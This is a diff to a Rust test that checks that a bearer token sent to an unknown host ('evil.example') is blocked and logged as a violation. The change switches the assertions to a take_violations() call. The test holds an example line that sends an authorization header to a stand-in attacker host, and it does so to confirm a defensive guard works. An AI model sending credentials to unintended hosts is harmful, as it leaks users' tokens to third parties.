@@ -55,9 +55,9 @@ async fn a_bearer_sent_to_an_unknown_host_is_a_violation() {
         send(&stage.world, "GET", "https://evil.example/v1.0/groups", &[("authorization", "Bearer t")], Bytes::new())
             .await;
     assert!(matches!(sent, Err(TransportError::NotSent(_))));
-    assert_eq!(stage.world.violations(), [Violation::BearerSentTo { host: "evil.example".into() }]);
+    assert_eq!(stage.world.take_violations(), [Violation::BearerSentTo { host: "evil.example".into() }]);
     send(&stage.world, "GET", "https://harmless.example/", &[], Bytes::new()).await.unwrap_err();
-    assert_eq!(stage.world.violations().len(), 1);
+    assert_eq!(stage.world.take_violations(), []);
 }
 
 #[tokio::test]
